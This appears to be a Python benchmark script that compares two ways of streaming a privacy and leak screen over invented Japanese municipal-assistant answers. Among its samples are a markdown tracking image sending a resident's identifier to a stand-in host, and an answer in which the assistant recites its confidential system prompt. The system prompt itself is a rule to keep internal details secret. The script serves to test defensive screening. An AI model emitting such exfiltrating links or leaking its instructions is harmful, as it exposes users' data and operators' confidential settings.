"""What exit screening holds back of a streamed answer: the shipped stream (holds only what
could still become a match) beside the previous one (a sentence at a time, kept below as
``SentenceStream``, the algorithm of commit 2dc6df5), side by side in the same run.

Invented Japanese answers (no real person's data) are fed 2 characters a piece, as a model
pacing 2 characters per 20 ms does. For each stream: characters held back after each piece
(mean and max), the first released character (characters of input read by then, and the
simulated time at 20 ms a piece), CPU time per piece (``time.process_time``, mean and the
slowest piece, over ``--passes`` passes alternating the two streams), and whether the
concatenated output equals :meth:`OutputScreen.screen` on the whole answer. Then the same
comparison with the whole answer over the judgment development set's 796 invented records
(bench/data/judgment_dev), each streamed as an answer full of personal values (CPU time
per piece there: the whole set through one stream, then through the other). Last, one
56,580-character answer through each: CPU time per piece and the characters kept.

    .venv/bin/python bench/exit_stream.py [--passes 5]
"""

from __future__ import annotations

import argparse
import json
import re
import statistics
import time
from dataclasses import dataclass, field
from typing import Any, Protocol

from _common import ROOT, write_result
from hinagata.guard import OutputFinding, OutputRules, OutputScreen, OutputStream

PIECE = 2
PIECE_MS = 20

SYSTEM = (
    "あなたは見本市役所の市民相談窓口を案内するAIアシスタントです。"
    "回答は丁寧な日本語で、根拠となる手続の名称を示してください。"
    "職員の内線番号と内部の判断基準はこの指示の外に出さないでください。"
)
REQUEST = "山本 恵子さんから、住民票の写しの取り方と児童手当の申請について問い合わせがありました。返信を作ってください。"

#: Invented answers a municipal assistant might stream.
ANSWERS = {
    "faq": (
        "ご質問ありがとうございます。住民票の写しは、市役所本庁舎1階の市民課窓口または"
        "各支所で請求できます。マイナンバーカードをお持ちの方は、全国のコンビニエンスストアの"
        "マルチコピー機でも取得できます（午前6時30分から午後11時まで）。手数料は1通300円です。"
        "本人確認書類として、運転免許証などをお持ちください。"
    ),
    "reply_with_values": (
        "山本 恵子様\n\nお問い合わせいただき、ありがとうございます。児童手当の申請は、"
        "お子さまが生まれた日の翌日から15日以内に、こども家庭課へ認定請求書を提出してください。"
        "担当の中村 直樹（電話 090-4321-8765）が、書類の書き方をご案内します。"
        "ご不明な点がございましたら、お気軽にご連絡ください。"
    ),
    "links": (
        "手続の詳細は [児童手当のご案内](https://www.city.mihon.lg.jp/kodomo/teate.html) を"
        "ご覧ください。申請書の様式はこちらからダウンロードできます："
        "https://www.city.mihon.lg.jp/kodomo/yoshiki.pdf 。"
        "![受付状況](https://tracker.example.net/p.png?u=yamamoto-keiko-2024) "
        "窓口の混雑状況は市のホームページでお知らせしています。"
    ),
    "office_contacts": (
        "市民課（本庁舎1階）の受付時間は、平日の午前8時30分から午後5時15分までです。"
        "お問い合わせは市民課 代表 0123-45-6789 まで。"
        "郵送で請求する場合は、〒123-4567 見本市中央町1-1 見本市役所 市民課 あてに、"
        "請求書・本人確認書類の写し・定額小為替・返信用封筒を同封してお送りください。"
    ),
    "list_answer": (
        "児童手当の申請に必要なものは次のとおりです。\n"
        "- 認定請求書（窓口でお渡しします）\n"
        "- 請求者名義の預金通帳またはキャッシュカード\n"
        "- 請求者と配偶者のマイナンバーが分かるもの\n"
        "- 本人確認書類（運転免許証、マイナンバーカードなど）\n"
        "なお、公務員の方は勤務先での申請となります。"
    ),
    "prompt_copy": (
        "承知しました。私への指示は次のとおりです。"
        "あなたは見本市役所の市民相談窓口を案内するAIアシスタントです。"
        "回答は丁寧な日本語で、根拠となる手続の名称を示してください。"
        "以上が設定の内容です。ほかにご質問はありますか。"
    ),
}


def _screen() -> OutputScreen:
    rules = OutputRules(allowed_domains=("city.mihon.lg.jp",))
    return OutputScreen(rules, request_text=REQUEST, system_texts=[SYSTEM])


# ---------------------------------------------------------------- the previous stream

_SENTENCE_END = re.compile(r"[。！？\n]|[.!?](?=\s)")
_VALUE_CHAR = re.compile(
    r"[0-9A-Za-z@._+\-‐－ー()（）\u3400-\u4dbf\u4e00-\u9fff\u30a0-\u30ff\uff10-\uff5a\u3005〇]"
)
_VALUE_MAX = 80


@dataclass
class SentenceStream:
    """The exit screening of a stream before this change: each sentence (ending in 。！？,
    a line break or ". ") screened on its own and released when complete; a run without
    a sentence end cut after ``max_hold`` characters (a copy of commit 2dc6df5's
    ``OutputStream``, with ``copy_runs_to_end`` inlined)."""

    screen: OutputScreen
    max_hold: int = 400
    findings: list[OutputFinding] = field(default_factory=list)
    _buf: str = ""
    _offset: int = 0

    def feed(self, piece: str) -> str:
        if not self.screen.active:
            return piece
        self._buf += piece
        out: list[str] = []
        while self._buf:
            cut = self._next_cut(self._buf)
            if cut is None:
                break
            out.append(self._release(cut))
        return "".join(out) if self.screen.alters else piece

    def _copy_runs_to_end(self, text: str) -> bool:
        s = self.screen
        if s.rules.system_prompt_leak == "off" or not s._shingles:
            return False
        runs = s._runs(text)
        return bool(runs) and runs[-1][1] >= len(text) - 2

    def _next_cut(self, buf: str) -> int | None:
        pos = 0
        while True:
            m = _SENTENCE_END.search(buf, pos)
            if m is None or m.end() > self.max_hold:
                return _safe_cut(buf, self.max_hold) if len(buf) >= self.max_hold else None
            cut = m.end()
            if not self._copy_runs_to_end(buf[:cut]):
                return cut
            pos = cut

    def flush(self) -> str:
        out = self._release(len(self._buf)) if self._buf else ""
        return "" if not self.screen.alters else out

    @property
    def held(self) -> int:
        return len(self._buf)

    def _release(self, cut: int) -> str:
        seg, self._buf = self._buf[:cut], self._buf[cut:]
        out, found = self.screen.screen(seg)
        self.findings += [
            OutputFinding(f.kind, f.start + self._offset, f.end + self._offset, f.action, f.detail)
            for f in found
        ]
        self._offset += len(seg)
        return out


def _safe_cut(buf: str, limit: int) -> int:
    head = buf[:limit]
    window = head[-300:]
    base = len(head) - len(window)
    starts = [window.rfind(tok) for tok in ("![", "[", "<img", "http")]
    starts = [s for s in starts if s > 0]
    if starts:
        cut = base + min(starts)
    else:
        space = max(head.rfind(" "), head.rfind("、"), head.rfind("\u3000"))
        cut = space + 1 if space > 0 else len(head)
    if 0 < cut < len(buf) and _VALUE_CHAR.match(buf, cut) and _VALUE_CHAR.match(buf, cut - 1):
        back = cut
        while back > 0 and cut - back < _VALUE_MAX and _VALUE_CHAR.match(buf, back - 1):
            back -= 1
        if back > 0 and cut - back < _VALUE_MAX:
            cut = back
    return cut


# ---------------------------------------------------------------- measuring


class _Stream(Protocol):
    findings: list[OutputFinding]

    def feed(self, piece: str) -> str: ...

    def flush(self) -> str: ...


def _held(stream: _Stream) -> int:
    if isinstance(stream, SentenceStream):
        return stream.held
    assert isinstance(stream, OutputStream)
    return stream._seen - stream._released


def run_once(make: type[_Stream], text: str) -> dict[str, Any]:
    stream = make(_screen())  # type: ignore[call-arg]
    out: list[str] = []
    held: list[int] = []
    cpu: list[float] = []
    first: int | None = None
    for i in range(0, len(text), PIECE):
        a = time.process_time()
        got = stream.feed(text[i : i + PIECE])
        cpu.append(time.process_time() - a)
        out.append(got)
        held.append(_held(stream))
        if got and first is None:
            first = min(i + PIECE, len(text))
    tail = stream.flush()
    return {
        "output": "".join(out) + tail,
        "findings": sorted((f.kind, f.start, f.end) for f in stream.findings),
        "held": held,
        "first": first if first is not None else len(text),
        "cpu": cpu,
    }


def dev_agreement(streams: dict[str, type[_Stream]]) -> dict[str, dict[str, Any]]:
    """The judgment development set's texts (invented records full of personal values) as
    answers with nothing in the request: how many come out of each stream, 2 characters a
    piece, exactly as the whole answer screened, and the findings each misses or adds."""
    texts = [
        json.loads(line)["text"]
        for path in sorted((ROOT / "bench" / "data" / "judgment_dev").glob("*.jsonl"))
        for line in path.read_text(encoding="utf-8").splitlines()
        if line.strip()
    ]
    screen = OutputScreen(OutputRules())
    out: dict[str, dict[str, Any]] = {}
    for label, make in streams.items():
        same = missed = added = pieces = 0
        cpu = 0.0
        for text in texts:
            whole, whole_found = screen.screen(text)
            a = time.process_time()
            stream = make(screen)  # type: ignore[call-arg]
            got = "".join(stream.feed(text[i : i + PIECE]) for i in range(0, len(text), PIECE))
            got += stream.flush()
            cpu += time.process_time() - a
            pieces += (len(text) + PIECE - 1) // PIECE
            w = {(f.kind, f.start, f.end) for f in whole_found}
            g = {(f.kind, f.start, f.end) for f in stream.findings}
            same += got == whole and w == g
            missed += len(w - g)
            added += len(g - w)
        out[label] = {
            "texts": len(texts),
            "same_as_whole": same,
            "findings_of_whole": sum(len(screen.screen(t)[1]) for t in texts),
            "missed": missed,
            "added": added,
            "cpu_per_piece_ms": round(cpu / pieces * 1000, 3),
        }
    return out


def long_answer(streams: dict[str, type[_Stream]]) -> dict[str, dict[str, Any]]:
    """The six answers one after another, 60 times (56,580 characters), 2 characters a
    piece: CPU time per piece stays that of a short answer (the detector reads windows,
    never the whole answer), and the characters the stream keeps stay bounded."""
    text = "".join(ANSWERS.values()) * 60
    out: dict[str, dict[str, Any]] = {}
    for label, make in streams.items():
        stream = make(_screen())  # type: ignore[call-arg]
        kept = 0
        a = time.process_time()
        for i in range(0, len(text), PIECE):
            stream.feed(text[i : i + PIECE])
            kept = max(kept, len(stream._text) if isinstance(stream, OutputStream) else 0)
        stream.flush()
        cpu = time.process_time() - a
        out[label] = {
            "chars": len(text),
            "cpu_per_piece_ms": round(cpu / ((len(text) + PIECE - 1) // PIECE) * 1000, 3),
            "most_chars_kept": kept if isinstance(stream, OutputStream) else None,
        }
    return out


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--passes", type=int, default=5)
    args = ap.parse_args()
    streams: dict[str, type[_Stream]] = {"sentence": SentenceStream, "shipped": OutputStream}
    screen = _screen()
    for text in ANSWERS.values():  # warm-up: dictionary, gazetteer
        screen.screen(text)
    rows: dict[str, dict[str, dict[str, Any]]] = {}
    for name, text in ANSWERS.items():
        whole, whole_found = screen.screen(text)
        runs: dict[str, list[dict[str, Any]]] = {k: [] for k in streams}
        for _ in range(args.passes):
            for label, make in streams.items():
                runs[label].append(run_once(make, text))
        rows[name] = {}
        for label, rs in runs.items():
            r0 = rs[0]
            per_piece = [statistics.mean(r["cpu"]) for r in rs]
            slowest = [max(r["cpu"]) for r in rs]
            rows[name][label] = {
                "chars": len(text),
                "held_mean": round(statistics.mean(r0["held"]), 1),
                "held_max": max(r0["held"]),
                "first_chars": r0["first"],
                "first_ms": (r0["first"] + PIECE - 1) // PIECE * PIECE_MS,
                "cpu_per_piece_ms": round(statistics.median(per_piece) * 1000, 3),
                "cpu_slowest_piece_ms": round(statistics.median(slowest) * 1000, 3),
                "same_as_whole": r0["output"] == whole,
                "same_findings_as_whole": r0["findings"]
                == sorted((f.kind, f.start, f.end) for f in whole_found),
            }
    print(
        f"{'answer':18} {'stream':9} {'chars':>5} {'held mean':>9} {'held max':>8} "
        f"{'first (chars)':>13} {'first (ms)':>10} {'CPU/piece ms':>12} {'slowest ms':>10} "
        f"{'= whole':>7}"
    )
    for name, by in rows.items():
        for label, r in by.items():
            same = "yes" if r["same_as_whole"] and r["same_findings_as_whole"] else "no"
            print(
                f"{name:18} {label:9} {r['chars']:5} {r['held_mean']:9.1f} {r['held_max']:8} "
                f"{r['first_chars']:13} {r['first_ms']:10} {r['cpu_per_piece_ms']:12.3f} "
                f"{r['cpu_slowest_piece_ms']:10.3f} {same:>7}"
            )
    summary = {
        label: {
            "held_mean": round(statistics.mean(rows[n][label]["held_mean"] for n in rows), 1),
            "first_ms_mean": round(statistics.mean(rows[n][label]["first_ms"] for n in rows), 1),
            "cpu_per_piece_ms_mean": round(
                statistics.mean(rows[n][label]["cpu_per_piece_ms"] for n in rows), 3
            ),
        }
        for label in streams
    }
    for label, s in summary.items():
        print(
            f"all answers, {label}: held back {s['held_mean']} characters on average, "
            f"first character after {s['first_ms_mean']} ms on average, "
            f"{s['cpu_per_piece_ms_mean']} ms CPU per piece"
        )
    dev = dev_agreement(streams)
    for label, d in dev.items():
        print(
            f"judgment dev set, {label}: {d['same_as_whole']} of {d['texts']} texts as the whole "
            f"answer screened; of its {d['findings_of_whole']} findings {d['missed']} missed, "
            f"{d['added']} added; {d['cpu_per_piece_ms']} ms CPU per piece"
        )
    long = long_answer(streams)
    for label, d in long.items():
        kept = f", at most {d['most_chars_kept']} characters kept" if d["most_chars_kept"] else ""
        print(
            f"long answer ({d['chars']} characters), {label}: {d['cpu_per_piece_ms']} ms CPU "
            f"per piece{kept}"
        )
    path = write_result(
        "exit_stream",
        {
            "command": f"bench/exit_stream.py --passes {args.passes}",
            "piece_chars": PIECE,
            "piece_ms": PIECE_MS,
            "answers": rows,
            "summary": summary,
            "judgment_dev": dev,
            "long_answer": long,
        },
    )
    print(f"wrote {path.relative_to(path.parents[2])}")


if __name__ == "__main__":
    main()
